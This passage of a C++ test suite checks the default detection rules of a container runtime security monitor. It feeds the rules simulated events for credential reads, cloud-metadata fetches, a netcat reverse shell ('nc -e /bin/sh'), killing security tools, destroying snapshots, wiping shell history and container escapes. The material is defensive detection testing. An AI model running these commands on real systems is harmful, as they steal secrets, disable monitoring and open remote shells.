    const std::string token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    const auto ds = detect(opened(token, O_RDONLY));  // cat
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "credential_read_by_tool_in_container");
    CHECK(ds[0].output == "Credential " + token + " read by cat (cat " + token + ") in container " + kContainerId +
                              ", SUCCESS");
    for (const std::string path : {"/etc/shadow", "/run/secrets/kubernetes.io/serviceaccount/token",
                                   "/root/.aws/credentials", "/home/app/.kube/config", "/root/.docker/config.json",
                                   "/home/dev/.ssh/id_ed25519", "/srv/.git-credentials", "/root/.netrc"}) {
        INFO(path);
        CHECK(fired(opened(path, O_RDONLY)) == Names{"credential_read_by_tool_in_container"});
    }
    Scene b64 = opened("/etc/shadow", O_RDONLY);
    b64.by("/usr/bin/base64", {"base64", "/etc/shadow"});
    CHECK(fired(b64) == Names{"credential_read_by_tool_in_container"});
    Scene redirect = opened(token, O_RDONLY);  // TOKEN=$(< token) in bash
    redirect.by("/bin/bash", {"bash"});
    CHECK(fired(redirect) == Names{"credential_read_by_tool_in_container"});
    CHECK(fired(opened("/etc/shadow", O_RDONLY).on_host()).empty());
    // the workload's own code, a login service, and files that only share a name
    Scene app = opened(token, O_RDONLY);
    app.by("/usr/local/bin/python3.12", {"python3", "-m", "operator"});
    CHECK(fired(app).empty());
    Scene grep_r = opened("/etc/shadow", O_RDONLY);  // grep -r over /etc, or a backup's tar
    grep_r.by("/bin/grep", {"grep", "-r", "listen", "/etc"});
    CHECK(fired(grep_r).empty());
    Scene tar_token = opened(token, O_RDONLY);  // packing the secrets to send them
    tar_token.by("/bin/tar", {"tar", "czf", "-", "/var/run/secrets"});
    CHECK(fired(tar_token) == Names{"credential_read_by_tool_in_container"});
    Scene su = opened("/etc/shadow", O_RDONLY);
    su.by("/usr/bin/su", {"su", "-", "app"});
    CHECK(fired(su).empty());
    CHECK(fired(opened("/app/config", O_RDONLY)).empty());
    CHECK(fired(opened("/etc/nginx/credentials", O_RDONLY)).empty());
    CHECK(fired(opened("/root/.ssh/id_rsa.pub", O_RDONLY)).empty());
    CHECK(fired(opened("/root/.ssh/known_hosts", O_RDONLY)).empty());
}

TEST_CASE("default rules: the cloud metadata service fetched by hand from a container", "[default_rules][credentials]") {
    const auto ds = detect(connect_inet_scene("169.254.169.254", 80, -ENETUNREACH));  // curl
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "cloud_metadata_fetched_by_tool");
    CHECK(ds[0].output == "Cloud metadata service 169.254.169.254 contacted by curl (curl http://169.254.169.254) "
                          "in container " + kContainerId + ", ENETUNREACH");
    CHECK(fires(connect_inet_scene("fd00:ec2::254", 80, -EINPROGRESS), "cloud_metadata_fetched_by_tool"));
    CHECK(fires(connect_inet_scene("169.254.170.2", 80), "cloud_metadata_fetched_by_tool"));
    Scene wget = connect_inet_scene("169.254.169.254", 80);
    wget.by("/bin/busybox", {"wget", "-qO-", "http://169.254.169.254/latest/meta-data/"});
    wget.process.comm = wget.event.comm = "wget";
    CHECK(fires(wget, "cloud_metadata_fetched_by_tool"));
    // an SDK inside the workload, another port, the host
    Scene sdk = connect_inet_scene("169.254.169.254", 80);
    sdk.by("/usr/bin/java", {"java", "-jar", "app.jar"});
    CHECK_FALSE(fires(sdk, "cloud_metadata_fetched_by_tool"));
    CHECK_FALSE(fires(connect_inet_scene("169.254.169.254", 8080), "cloud_metadata_fetched_by_tool"));
    CHECK_FALSE(fires(connect_inet_scene("169.254.169.254", 80).on_host(), "cloud_metadata_fetched_by_tool"));
    CHECK_FALSE(fires(connect_inet_scene("10.0.0.1", 80), "cloud_metadata_fetched_by_tool"));
}

TEST_CASE("default rules: the Kubernetes API reached by hand from a container", "[default_rules][credentials]") {
    const auto ds = detect(connect_inet_scene("10.96.0.1", 443, -EINPROGRESS));  // curl
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "k8s_api_contacted_by_tool");
    CHECK(ds[0].rule->category == "credential_access");
    CHECK(ds[0].rule->severity == "medium");
    CHECK(ds[0].output == "Kubernetes API 10.96.0.1:443 contacted by curl (curl http://10.96.0.1) in container " +
                              kContainerId + ", EINPROGRESS");
    CHECK(fires(connect_inet_scene("10.43.0.1", 443), "k8s_api_contacted_by_tool"));      // k3s
    CHECK(fires(connect_inet_scene("192.168.5.10", 6443), "k8s_api_contacted_by_tool"));  // the API server itself
    CHECK(fires(connect_inet_scene("fd00:10:96::1", 443), "k8s_api_contacted_by_tool"));
    Scene nc = connect_inet_scene("10.96.0.1", 443);
    nc.by("/bin/busybox", {"nc", "10.96.0.1", "443"});
    nc.process.comm = nc.event.comm = "exe";
    CHECK(fires(nc, "k8s_api_contacted_by_tool"));  // a busybox applet, by argv[0]
    // a controller's own client library, another port or address, the host
    Scene client = connect_inet_scene("10.96.0.1", 443);
    client.by("/manager", {"/manager", "--leader-elect"});
    client.process.comm = client.event.comm = "manager";
    CHECK_FALSE(fires(client, "k8s_api_contacted_by_tool"));
    CHECK_FALSE(fires(connect_inet_scene("10.96.0.1", 80), "k8s_api_contacted_by_tool"));
    CHECK_FALSE(fires(connect_inet_scene("10.96.0.10", 443), "k8s_api_contacted_by_tool"));  // the DNS service
    CHECK_FALSE(fires(connect_inet_scene("10.96.0.1", 443).on_host(), "k8s_api_contacted_by_tool"));
}

TEST_CASE("default rules: security tools disabled and snapshots removed in a container",
          "[default_rules][evasion]") {
    const auto ds = detect(exec_scene("/usr/bin/pkill", {"pkill", "-9", "falco"}));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "security_tool_disabled_in_container");
    CHECK(ds[0].rule->category == "defense_evasion");
    CHECK(ds[0].rule->severity == "high");
    CHECK(ds[0].output == "Security tool disabled in container " + kContainerId + ": pkill -9 falco (/usr/bin/pkill)");
    for (const auto &argv : std::vector<std::vector<std::string>>{{"killall", "tetragon"},
                                                                  {"systemctl", "stop", "auditd"},
                                                                  {"service", "osqueryd", "stop"},
                                                                  {"setenforce", "0"},
                                                                  {"auditctl", "-e", "0"},
                                                                  {"auditctl", "-e0"},
                                                                  {"auditctl", "-D"}}) {
        INFO(argv[0] << " " << argv[1]);
        CHECK(fired(exec_scene("/bin/busybox", argv)) == Names{"security_tool_disabled_in_container"});
    }
    // near misses: a kill of the app's own worker, auditctl listing, SELinux enforcing, the host
    CHECK(fired(exec_scene("/usr/bin/pkill", {"pkill", "-HUP", "nginx"})).empty());
    CHECK(fired(exec_scene("/sbin/auditctl", {"auditctl", "-l"})).empty());
    CHECK(fired(exec_scene("/usr/sbin/setenforce", {"setenforce", "1"})).empty());
    CHECK(fired(exec_scene("/usr/bin/systemctl", {"systemctl", "restart", "auditd"}).on_host()).empty());

    const auto lv = detect(exec_scene("/sbin/lvremove", {"lvremove", "-f", "vg0/backup-snap"}));
    REQUIRE(lv.size() == 1);
    CHECK(lv[0].rule->name == "recovery_inhibited_in_container");
    CHECK(lv[0].rule->category == "impact");
    CHECK(fired(exec_scene("/sbin/zfs", {"zfs", "destroy", "-r", "tank/data@daily"})) ==
          Names{"recovery_inhibited_in_container"});
    CHECK(fired(exec_scene("/bin/btrfs", {"btrfs", "subvolume", "delete", "/mnt/.snapshots/1"})) ==
          Names{"recovery_inhibited_in_container"});
    CHECK(fired(exec_scene("/bin/btrfs", {"btrfs", "sub", "del", "/mnt/.snapshots/1"})) ==
          Names{"recovery_inhibited_in_container"});
    CHECK(fired(exec_scene("/sbin/zfs", {"zfs", "list", "-t", "snapshot"})).empty());
    CHECK(fired(exec_scene("/bin/btrfs", {"btrfs", "subvolume", "list", "/"})).empty());
    CHECK(fired(exec_scene("/sbin/lvs", {"lvs"})).empty());
}

TEST_CASE("default rules: persistence and evasion inside a container", "[default_rules][persistence]") {
    CHECK(fired(opened("/root/.ssh/authorized_keys", O_WRONLY | O_APPEND | O_CREAT)) ==
          Names{"ssh_authorized_keys_written_in_container"});
    CHECK(fired(opened("/home/u/.ssh/authorized_keys2", O_RDWR)) == Names{"ssh_authorized_keys_written_in_container"});
    CHECK(fired(opened("/root/.ssh/authorized_keys", O_RDONLY)).empty());  // sshd reads it at every login
    CHECK(fired(opened("/etc/ld.so.preload", O_WRONLY | O_CREAT | O_TRUNC)) == Names{"ld_preload_written_in_container"});
    CHECK(fired(opened("/etc/ld.so.preload", O_RDONLY)).empty());  // the loader reads it at every exec
    CHECK(fired(opened("/etc/ld.so.preload", O_WRONLY).on_host()).empty());

    CHECK(fired(opened("/root/.bash_history", O_WRONLY | O_CREAT | O_TRUNC)) ==
          Names{"shell_history_emptied_in_container"});
    CHECK(fired(opened("/root/.bash_history", O_WRONLY | O_APPEND)).empty());  // the shell saving it
    const auto linked = detect(syscall_scene(crowsnest::Syscall::Symlink, {}, 0, "/dev/null", "/root/.ash_history"));
    REQUIRE(linked.size() == 1);
    CHECK(linked[0].rule->name == "shell_history_linked_to_null_in_container");
    CHECK(linked[0].output == "Shell history /root/.ash_history linked to /dev/null in container " + kContainerId +
                                  " by strace (strace -p 1)");
    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, 0, "/dev/null", "/tmp/out.log")).empty());
    CHECK(fired(syscall_scene(crowsnest::Syscall::Symlink, {}, 0, "/data/h", "/root/.bash_history")).empty());

    const auto deleted = detect(syscall_scene(crowsnest::Syscall::Unlinkat, {AT_FDCWD, 0}, 0, "/root/.bash_history"));
    REQUIRE(deleted.size() == 1);
    CHECK(deleted[0].rule->name == "shell_history_deleted_in_container");
    CHECK(deleted[0].output == "Shell history dirfd=-100 name=/root/.bash_history flags=0 deleted in container " +
                                   kContainerId + " by strace (strace -p 1)");
    CHECK(fired(syscall_scene(crowsnest::Syscall::Unlink, {}, 0, ".ash_history")) ==
          Names{"shell_history_deleted_in_container"});  // relative, from the home directory
    CHECK(fired(syscall_scene(crowsnest::Syscall::Unlink, {}, -2, "/root/.bash_history")).empty());  // ENOENT
    CHECK(fired(syscall_scene(crowsnest::Syscall::Unlink, {}, 0, "/tmp/history.txt")).empty());
    CHECK(fired(syscall_scene(crowsnest::Syscall::Unlink, {}, 0, "/root/.bash_history").on_host()).empty());

    const auto log = detect(syscall_scene(crowsnest::Syscall::Unlink, {}, 0, "/var/log/auth.log"));
    REQUIRE(log.size() == 1);
    CHECK(log[0].rule->name == "system_log_deleted_in_container");
    CHECK(fired(syscall_scene(crowsnest::Syscall::Unlinkat, {AT_FDCWD, 0}, 0, "/var/log/audit/audit.log")) ==
          Names{"system_log_deleted_in_container"});
    CHECK(fired(syscall_scene(crowsnest::Syscall::Unlink, {}, 0, "/var/log/app/app.log")).empty());
    CHECK(fired(syscall_scene(crowsnest::Syscall::Unlink, {}, 0, "/var/log/syslog.4.gz")).empty());  // a rotated copy
    Scene rotator = syscall_scene(crowsnest::Syscall::Unlink, {}, 0, "/var/log/syslog");
    rotator.by("/usr/sbin/logrotate", {"logrotate", "/etc/logrotate.conf"});
    CHECK(fired(rotator).empty());

    const auto suid = detect(syscall_scene(crowsnest::Syscall::Fchmodat, {AT_FDCWD, S_ISUID | 0755}, 0, "/tmp/sh"));
    REQUIRE(suid.size() == 1);
    CHECK(suid[0].rule->name == "setuid_bit_set_in_container");
    CHECK(suid[0].output.find("Setuid bit set in container " + kContainerId + " by strace (strace -p 1): fchmodat ") == 0);
    CHECK(suid[0].output.find("/tmp/sh") != std::string::npos);
    CHECK(fired(syscall_scene(crowsnest::Syscall::Fchmod, {3, S_ISUID | 0755})) == Names{"setuid_bit_set_in_container"});
    CHECK(fired(syscall_scene(crowsnest::Syscall::Chmod, {S_ISGID | 02775}, 0, "/data")).empty());  // a shared directory
    CHECK(fired(syscall_scene(crowsnest::Syscall::Chmod, {0755}, 0, "/tmp/x")).empty());
    Scene dpkg = syscall_scene(crowsnest::Syscall::Fchmodat, {AT_FDCWD, S_ISUID | 0755}, 0, "/usr/bin/sudo");
    dpkg.by("/usr/bin/dpkg", {"dpkg", "--unpack", "sudo.deb"});
    CHECK(fired(dpkg).empty());
}

TEST_CASE("default rules: ptrace injection and kernel modules from a container", "[default_rules][escape]") {
    using crowsnest::Syscall;
    const auto attach = detect(syscall_scene(Syscall::Ptrace, {PTRACE_ATTACH, 77}));
    REQUIRE(attach.size() == 1);
    CHECK(attach[0].rule->name == "ptrace_attach_in_container");
    CHECK(attach[0].output == "ptrace PTRACE_ATTACH of pid 77 in container " + kContainerId +
                                  " by strace (strace -p 1), SUCCESS");
    CHECK(fired(syscall_scene(Syscall::Ptrace, {PTRACE_POKETEXT, 77})) == Names{"ptrace_attach_in_container"});
    CHECK(fired(syscall_scene(Syscall::Ptrace, {PTRACE_TRACEME, 0})).empty());  // a child asking to be traced
    CHECK(fired(syscall_scene(Syscall::Ptrace, {PTRACE_PEEKUSER, 77})).empty());
    CHECK(fired(syscall_scene(Syscall::Ptrace, {PTRACE_ATTACH, 77}).on_host()).empty());

    const auto module = detect(syscall_scene(Syscall::FinitModule, {3, 0}, -EPERM));
    REQUIRE(module.size() == 1);
    CHECK(module[0].rule->name == "kernel_module_load_from_container");
    CHECK(module[0].output == "Kernel module load (finit_module) from container " + kContainerId +
                                  " by strace (strace -p 1), EPERM");
    CHECK(fired(syscall_scene(Syscall::InitModule, {4096}, 0)) == Names{"kernel_module_load_from_container"});
    CHECK(fired(syscall_scene(Syscall::InitModule, {4096}, 0).on_host()).empty());
}

TEST_CASE("default rules: setns from a container under any name, but not the runtime's", "[default_rules][escape]") {
    using crowsnest::Syscall;
    Scene join = syscall_scene(Syscall::Setns, {3, 0});
    join.by("/tmp/kthreadd", {"kthreadd", "-t", "1", "-m"});  // a renamed nsenter
    const auto ds = detect(join);
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "namespace_joined_from_container");
    CHECK(ds[0].output.find("Namespace joined (setns fd=3 ") == 0);
    CHECK(ds[0].output.find("in container " + kContainerId + " by kthreadd (kthreadd -t 1 -m), SUCCESS") !=
          std::string::npos);
    CHECK(fired(syscall_scene(Syscall::Setns, {3, 0}, -EPERM)) == Names{"namespace_joined_from_container"});
    Scene runc = syscall_scene(Syscall::Setns, {5, 0x40000000});
    runc.event.comm = runc.process.comm = "runc:[1:CHILD]";
    CHECK(fired(runc).empty());
    CHECK(fired(syscall_scene(Syscall::Setns, {3, 0}).on_host()).empty());
}

TEST_CASE("default rules: /proc/1/root needs the host pid namespace", "[default_rules][escape]") {
    CHECK(fired(open_scene("/proc/1/root/etc/shadow").with_host_pid_ns()) == Names{"host_root_via_proc"});
    CHECK(fired(open_scene("/proc/1/root/etc/shadow")).empty());
    CHECK(fired(open_scene("/proc/1/root/etc/shadow").with_host_pid_ns().on_host()).empty());
    CHECK(fired(open_scene("/proc/12/root/etc/shadow").with_host_pid_ns()).empty());
    CHECK(fired(open_scene("/proc/1/rootfs/x").with_host_pid_ns()).empty());
    CHECK(fired(open_scene("/proc/self/root/etc/shadow").with_host_pid_ns()).empty());
    // the path is matched after normalisation
    CHECK(fired(open_scene("/proc/1/cwd/../root/etc/shadow").with_host_pid_ns()) == Names{"host_root_via_proc"});
}

TEST_CASE("default rules: a runtime socket from a container, except for known agents", "[default_rules][escape]") {
    const auto ds = detect(connect_unix_scene("/var/run/docker.sock"));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "runtime_socket_connect");
    CHECK(ds[0].output == "Container runtime socket /var/run/docker.sock reached from container " + kContainerId +
                              " by docker (/usr/bin/docker), SUCCESS");
    CHECK(fired(connect_unix_scene("/run/containerd/containerd.sock", false, -2)) == Names{"runtime_socket_connect"});
    CHECK(fired(connect_unix_scene("/var/run/docker.sock").on_host()).empty());
    CHECK(fired(connect_unix_scene("/var/run/docker.sock.bak")).empty());
    CHECK(fired(connect_unix_scene("/tmp/mydocker.sock")).empty());
    Scene cadvisor = connect_unix_scene("/var/run/docker.sock");
    cadvisor.by("/usr/bin/cadvisor", {"cadvisor"});
    CHECK(fired(cadvisor).empty());
    CHECK(fired(open_scene("/var/run/docker.sock")) == Names{"runtime_socket_opened"});
    CHECK(fired(open_scene("/var/run/docker.sock").on_host()).empty());
}

// ---- drift -----------------------------------------------------------------

TEST_CASE("default rules: programs that are not part of the image", "[default_rules][drift]") {
    Scene upper = exec_scene("/usr/local/bin/helper", {"helper"});
    upper.event.exe_upper_layer = true;
    CHECK(fired(upper) == Names{"drift_binary_executed"});
    CHECK(fired(upper.on_host()).empty());
    CHECK(fired(exec_scene("/usr/bin/python3", {"python3", "app.py"})).empty());  // from the image

    CHECK(fired(exec_scene("/dev/shm/.x", {"/dev/shm/.x"})) == Names{"drift_exec_from_writable_dir"});
    CHECK(fired(exec_scene("/tmp/payload", {"./payload"})) == Names{"drift_exec_from_writable_dir"});
    CHECK(fired(exec_scene("/tmp/payload", {"./payload"}).on_host()).empty());
    CHECK(fired(exec_scene("/tmpfoo/app", {"app"})).empty());  // not /tmp
    CHECK(fired(exec_scene("/tmp/go-build2914/b001/exe/main", {"main"})).empty());  // go run in a CI container

    Scene memfd = exec_scene("/proc/self/fd/3", {"x"});
    memfd.process.exe = "/memfd:x (deleted)";
    CHECK(fired(memfd) == Names{"fileless_exec"});
    CHECK(fired(memfd.on_host()) == Names{"fileless_exec"});
}

TEST_CASE("default rules: a process exit matches no rule", "[default_rules]") {
    Scene s = exec_scene("/tmp/xmrig", {"xmrig"});
    s.event.type = crowsnest::EventType::Exit;
    CHECK(fired(s).empty());
}

// Users adapt the shipped rules from their own files, as Falco users do.
TEST_CASE("default rules: a user file appends to a list, adds an exception, disables a rule", "[default_rules]") {
    TempDir dir;
    write_file(dir / "local.yaml",
               "- list: scanner_tools\n  items: [corpscan]\n  append: true\n"
               "- rule: network_scanner_in_container\n  exceptions:\n"
               "    - name: security_team\n      fields: [container.id, proc.name]\n"
               "      values: [[" + kContainerId + ", nmap]]\n  append: true\n"
               "- rule: network_tool_in_container\n  enabled: false\n");
    auto r = load_rules({dir / "local.yaml"});
    CHECK(fired(exec_scene("/usr/bin/corpscan", {"corpscan", "10.0.0.0/8"}), *r) == Names{"network_scanner_in_container"});
    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "10.0.0.0/8"}), *r).empty());
    CHECK(fired(exec_scene("/usr/bin/masscan", {"masscan", "10.0.0.0/8"}), *r) == Names{"network_scanner_in_container"});
    CHECK(fired(exec_scene("/usr/bin/nc", {"nc", "-z", "db", "5432"}), *r).empty());
}

// Rules written as falcosecurity/rules writes them load unchanged and fire.
TEST_CASE("Falco-style rules load unchanged and fire", "[default_rules][falco]") {
    std::vector<std::string> errors, warnings;
    auto r = RuleSet::load({CROWSNEST_SOURCE_DIR "/tests/data/falco_style_rules.yaml"}, errors, warnings);
    INFO(Catch::Detail::stringify(errors));
    REQUIRE(r != nullptr);
    CHECK(r->rule_count() == 4);
    INFO(Catch::Detail::stringify(warnings));
    CHECK(warnings.empty());  // user.name and user.loginuid, in its outputs, are fields now

    const auto ds = detect(exec_scene("/usr/bin/nc", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"}), *r);
    REQUIRE(ds.size() == 2);
    CHECK(ds[0].rule->name == "Launch Suspicious Network Tool in Container");
    CHECK(ds[0].rule->category == "recon");  // mitre_discovery
    CHECK(ds[0].rule->severity == "low");    // NOTICE
    CHECK(ds[0].output.find("command=nc -e /bin/sh 10.0.0.1 4444 pid=4321 parent_process=sh container_id=" +
                            kContainerId + " container_name=<NA>") != std::string::npos);
    CHECK(ds[1].rule->name == "Netcat Remote Code Execution in Container");
    CHECK(ds[1].rule->category == "execution");  // mitre_execution
    CHECK(fired(exec_scene("/usr/bin/nc", {"nc", "-e", "/bin/sh"}).on_host(), *r).empty());

    CHECK(fired(open_scene("/etc/shadow"), *r) == Names{"Read sensitive file untrusted"});
    CHECK(fired(open_scene("/etc/pam.d/common-auth"), *r) == Names{"Read sensitive file untrusted"});
    Scene sshd = open_scene("/etc/shadow");
    sshd.by("/usr/sbin/sshd", {"sshd"});
    CHECK(fired(sshd, *r).empty());
    CHECK(fired(open_scene("/etc/shadow", -13), *r).empty());  // fd.num >= 0: the open must succeed

    Scene write = opened("/etc/ld.so.preload", O_WRONLY | O_CREAT);
    const auto w = detect(write, *r);
    REQUIRE(w.size() == 1);
    CHECK(w[0].rule->category == "persistence");
    CHECK(w[0].rule->severity == "high");  // ERROR
    CHECK(w[0].output == "File below /etc opened for writing (user=<NA> command=cat /etc/ld.so.preload "
                         "file=/etc/ld.so.preload flags=O_WRONLY|O_CREAT)");
}
